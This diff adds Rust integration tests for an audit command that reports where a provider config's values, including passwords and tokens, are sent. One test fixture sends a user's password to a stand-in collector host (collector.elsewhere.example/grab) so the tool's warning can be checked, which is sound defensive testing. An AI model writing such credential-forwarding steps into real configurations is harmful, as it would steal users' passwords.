@@ -1,0 +1,150 @@
+//! `otvi-codegen explain`: the audit report says where each value goes, as text, JSON and a
+//! Mermaid graph, and warns when a password or secret leaves the provider's host.
+
+use std::process::Command;
+
+fn explain(file: &str, format: &str) -> (i32, String, String) {
+    let out = Command::new(env!("CARGO_BIN_EXE_otvi-codegen"))
+        .args(["explain", file, "--format", format])
+        .output()
+        .unwrap();
+    (
+        out.status.code().unwrap_or(-1),
+        String::from_utf8_lossy(&out.stdout).into(),
+        String::from_utf8_lossy(&out.stderr).into(),
+    )
+}
+
+fn shipped(name: &str) -> String {
+    format!("{}/../providers/{name}", env!("CARGO_MANIFEST_DIR"))
+}
+
+#[test]
+fn the_report_says_where_each_value_goes_and_nowhere_else() {
+    let (code, out, err) = explain(&shipped("acme.yaml"), "human");
+    assert_eq!(code, 0, "{err}");
+    assert!(
+        out.contains("`input.password` -> POST https://api.acme.example/v2/auth/login, JSON body field `$.password`; nowhere else"),
+        "{out}"
+    );
+    assert!(
+        out.contains("sends input.otp (sensitive) in the JSON body field `$.code`"),
+        "{out}"
+    );
+    assert!(
+        out.contains("keeps access_token from body $.data.access_token"),
+        "{out}"
+    );
+    assert!(out.contains("asks for otp (text)"), "{out}");
+    assert!(
+        out.contains("sends stored.access_token (sensitive) in the header `Authorization`"),
+        "{out}"
+    );
+    // The last step's success completes the flow.
+    assert!(
+        out.contains("when status 2xx -> complete (the session is stored)"),
+        "{out}"
+    );
+    assert!(!err.contains("warning"), "{err}");
+}
+
+#[test]
+fn json_lists_every_request_with_its_destination_and_uses() {
+    let (code, out, _) = explain(&shipped("indee.yaml"), "json");
+    assert_eq!(code, 0);
+    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
+    assert_eq!(v["provider"], "indee");
+    let steps: Vec<&serde_json::Value> = v["flows"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .flat_map(|f| f["steps"].as_array().unwrap())
+        .collect();
+    assert!(!steps.is_empty());
+    for s in &steps {
+        assert_eq!(s["request"]["scheme"], "https");
+        assert_eq!(s["request"]["host"], "admin-api.indee.example");
+    }
+    let api_key = v["sensitive"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|s| s["value"] == "secret.api_key")
+        .expect("the API key is reported");
+    assert!(api_key["sent_to"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .all(|t| t.as_str().unwrap().ends_with("header `Authorization`")));
+    assert_eq!(v["warnings"], serde_json::json!([]));
+}
+
+#[test]
+fn mermaid_draws_steps_and_outcomes() {
+    let (code, out, _) = explain(&shipped("truenas.yaml"), "mermaid");
+    assert_eq!(code, 0);
+    assert!(out.starts_with("flowchart TD\n"), "{out}");
+    assert!(out.contains("subgraph"), "{out}");
+    assert!(out.contains("-->|"), "{out}");
+    assert!(out.contains("([complete])"), "{out}");
+}
+
+#[test]
+fn a_password_sent_to_another_host_is_a_warning() {
+    let dir = std::env::temp_dir().join(format!("otvi-explain-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let file = dir.join("leaky.yaml");
+    std::fs::write(
+        &file,
+        r#"provider:
+  id: leaky
+  name: "Leaky"
+defaults:
+  base_url: "https://api.leaky.example"
+auth:
+  flows:
+    - id: login
+      name: "Login"
+      inputs:
+        - { key: user, label: "User", required: true }
+        - { key: password, label: "Password", type: password, required: true }
+      steps:
+        - name: "Sign in"
+          request:
+            method: POST
+            path: "https://collector.elsewhere.example/grab?u={{input.user}}"
+            body: '{"pw": "{{input.password}}"}'
+          on_success:
+            extract:
+              token: "$.token"
+"#,
+    )
+    .unwrap();
+    let (code, out, err) = explain(file.to_str().unwrap(), "human");
+    let _ = std::fs::remove_dir_all(&dir);
+    assert_eq!(code, 0, "{err}");
+    assert!(
+        out.contains("sends input.user in the query parameter")
+            || out.contains("sends input.user in the URL path"),
+        "{out}"
+    );
+    assert!(
+        err.contains("warning: `input.password` goes to collector.elsewhere.example (JSON body field `$.pw`), not the provider's host api.leaky.example"),
+        "{err}"
+    );
+}
+
+#[test]
+fn a_file_that_does_not_check_is_not_explained() {
+    let bad = format!(
+        "{}/../tests/invalid/unknown-key-on-sucess.yaml",
+        env!("CARGO_MANIFEST_DIR")
+    );
+    let (code, out, err) = explain(&bad, "human");
+    assert_eq!(code, 1);
+    assert!(out.is_empty());
+    assert!(
+        err.contains("on_sucess") && err.contains("nothing to explain"),
+        "{err}"
+    );
+}
